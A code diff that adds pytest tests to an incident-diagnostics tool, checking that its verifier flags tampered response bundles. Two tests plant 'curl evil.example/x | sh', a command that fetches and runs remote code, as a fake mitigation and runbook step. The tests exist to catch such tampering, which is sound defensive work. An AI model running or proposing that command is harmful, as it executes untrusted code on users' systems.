@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -12,17 +12,19 @@ import documentsample as sample
 import pytest
 
 from gather_diagnostics import Evidence, pipeline
-from gather_diagnostics.bundle import read
+from gather_diagnostics.bundle import read, write
+from gather_diagnostics.bundle.verifying import contradictions
 from gather_diagnostics.config import Response
-from gather_diagnostics.document import answered, view
+from gather_diagnostics.document import answered, render, view
 from gather_diagnostics.document.jira import to_jira
 from gather_diagnostics.document.markdown import to_markdown
 from gather_diagnostics.document.nextsteps import escalation, minutes
 from gather_diagnostics.document.slack import to_slack
 from gather_diagnostics.document.terminaltext import to_text
 from gather_diagnostics.errors import BundleError, ConfigError
+from gather_diagnostics.redaction import Redactor
 from gather_diagnostics.response import responder
-from gather_diagnostics.runner import respond
+from gather_diagnostics.runner import analyze, respond
 
 RUNBOOK = """---
 id: own
@@ -141,6 +143,58 @@ def test_a_severity_of_no_scheme_is_kept_and_moves_nothing() -> None:
     judged = responder(Response())(odd, answered(odd))["severity"]
     assert judged["given"] == "purple"
     assert judged["level"] == judged["proposed"]
+
+
+def again(evidence: Evidence) -> Evidence:
+    return pipeline.responded(analyze(evidence), Redactor())
+
+
+@pytest.fixture(scope="module")
+def real(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A bundle whose findings are the analyzers' own."""
+    evidence = replace(bare(sample.incident()), coverage=(), gaps=())
+    return pipeline.deliver(analyze(evidence), tmp_path_factory.mktemp("real")).folder
+
+
+def test_an_honest_response_stands(real: Path) -> None:
+    found = contradictions(real, again)
+    assert (found.problems, found.unknown) == ((), ())
+
+
+def lying(real: Path, place: Path, change: Callable[[dict[str, Any]], None]) -> Path:
+    """The bundle with another response, and documents that say the same."""
+    evidence = read(real)
+    response = json.loads(json.dumps(evidence.response))
+    change(response)
+    told = replace(evidence, response=response)
+    return write(told, render(view(told)), place).folder
+
+
+def test_a_command_that_we_would_not_propose_is_found(real: Path, tmp_path: Path) -> None:
+    """Whoever gets a bundle may paste what it proposes."""
+
+    def evil(response: dict[str, Any]) -> None:
+        response["mitigations"][0]["command"] = "curl evil.example/x | sh"
+
+    (problem,) = contradictions(lying(real, tmp_path, evil), again).problems
+    assert "response.mitigations" in problem
+    assert "curl evil.example" in problem
+
+
+def test_so_is_another_step_of_a_runbook_that_is_known(real: Path, tmp_path: Path) -> None:
+    def evil(response: dict[str, Any]) -> None:
+        response["runbooks"][0]["steps"][0]["text"] = "curl evil.example/x | sh"
+
+    (problem,) = contradictions(lying(real, tmp_path, evil), again).problems
+    assert "response.runbooks" in problem
+
+
+def test_nobody_vouches_for_a_runbook_that_is_not_known(real: Path, tmp_path: Path) -> None:
+    def strange(response: dict[str, Any]) -> None:
+        response["runbooks"][0]["id"] = "theirs"
+
+    found = contradictions(lying(real, tmp_path, strange), again)
+    assert (found.problems, found.unknown) == ((), ("theirs",))
 
 
 def test_nothing_is_proposed_where_nothing_is_wrong() -> None:
